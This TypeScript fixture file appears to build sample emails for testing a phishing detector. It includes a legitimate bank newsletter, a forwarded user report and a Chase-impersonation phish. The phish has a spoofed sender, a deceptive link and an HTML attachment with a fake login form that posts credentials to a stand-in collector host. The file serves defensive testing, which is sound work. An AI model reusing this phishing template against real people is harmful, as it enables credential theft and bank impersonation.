import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import QRCode from 'qrcode';

function compose(options: ConstructorParameters<typeof MailComposer>[0]): Promise<Buffer> {
  return new MailComposer(options).compile().build();
}

/** The sign-in page an HTML attachment phish opens: a local form posting to the collector. */
const LOGIN_PAGE = `<!doctype html><html><head><title>Secure Message</title></head><body>
<h1>Chase secure document</h1><p>Sign in to view your statement.</p>
<form method="post" action="https://statement-viewer.example-docs.top/collect.php">
<input name="user"><input type="password" name="pass"><button>View</button></form></body></html>`;

/**
 * A phishing message as it reaches a mailbox: a display name naming the bank, SPF and DMARC
 * failed, replies diverted, an HTML link whose text shows the bank's real address, a defanged
 * link in the text part, a QR code in an inline image, and an HTML attachment with a login form.
 */
export async function phishingMail(): Promise<Buffer> {
  const qr = await QRCode.toBuffer('https://mobile-verify.example-pay.click/qr/8812', { type: 'png', width: 240 });
  return compose({
    from: '"Chase Online Banking" <service@notice-center.example-mail.net>',
    replyTo: 'chase.support.desk@example-freemail.com',
    to: 'victim@riskscan.local',
    subject: 'Action required: your account has been locked',
    date: new Date('2026-11-20T08:15:00Z'),
    headers: {
      'Return-Path': '<bounce@notice-center.example-mail.net>',
      'Authentication-Results':
        'mx.riskscan.local; spf=fail smtp.mailfrom=notice-center.example-mail.net; dkim=none; dmarc=fail header.from=notice-center.example-mail.net',
    },
    text: [
      'Dear customer,',
      'We noticed unusual sign-in activity. Verify your identity within 24 hours:',
      'hxxps://secure-login[.]account-verify-center[.]xyz/chase/session',
      'Or scan the code in this message with your phone.',
      'Our real site is https://www.chase.com/ as always.',
    ].join('\n'),
    html: `<p>Dear customer,</p><p>We noticed unusual sign-in activity.</p>
<p><a href="https://chase-secure.account-verify-center.xyz/login?id=8812">https://www.chase.com/verify</a></p>
<p>Or scan this code with your phone:<br><img src="cid:qr@mail" alt="QR"></p>
<p>Visit us at <a href="https://www.chase.com/">chase.com</a>.</p>`,
    attachments: [
      { filename: 'qr.png', content: qr, contentType: 'image/png', cid: 'qr@mail' },
      { filename: 'Secure_Statement.html', content: LOGIN_PAGE, contentType: 'text/html' },
    ],
  });
}

/** A bank's own newsletter: authenticated, links to its own sites only. */
export function bankNewsletter(): Promise<Buffer> {
  return compose({
    from: '"Chase" <news@chase.com>',
    to: 'customer@riskscan.local',
    subject: 'Your November savings tips',
    date: new Date('2026-11-02T10:00:00Z'),
    headers: {
      'Authentication-Results':
        'mx.riskscan.local; spf=pass smtp.mailfrom=chase.com; dkim=pass header.d=chase.com; dmarc=pass header.from=chase.com',
    },
    text: 'Five ways to save this winter: https://www.chase.com/personal/savings\nManage e-mail preferences: https://www.chase.com/digital/preferences',
    html: `<h1>Five ways to save this winter</h1><p><a href="https://www.chase.com/personal/savings">Read the tips</a></p>
<p><a href="https://www.chase.com/digital/preferences">Manage e-mail preferences</a> · <a href="https://www.chase.com/">chase.com</a></p>`,
  });
}

/**
 * What a report-phishing button or a user sends to the security team: a short note with the
 * suspect message attached as `message/rfc822` (or shown inline, as some clients forward).
 */
export async function forwardedReport(suspect: Buffer, disposition: 'attachment' | 'inline' = 'attachment'): Promise<Buffer> {
  return compose({
    from: '"Dana Miller" <dana.miller@riskscan.local>',
    to: 'phishing-reports@riskscan.local',
    subject: 'FW: Action required: your account has been locked',
    date: new Date('2026-11-20T09:02:00Z'),
    headers: { 'Authentication-Results': 'mx.riskscan.local; spf=pass smtp.mailfrom=riskscan.local; dkim=pass; dmarc=pass' },
    text: 'Hi team, this looks odd to me. Reported with the Report Phishing button.',
    attachments: [{ filename: 'suspicious.eml', content: suspect, contentType: 'message/rfc822', contentDisposition: disposition }],
  });
}
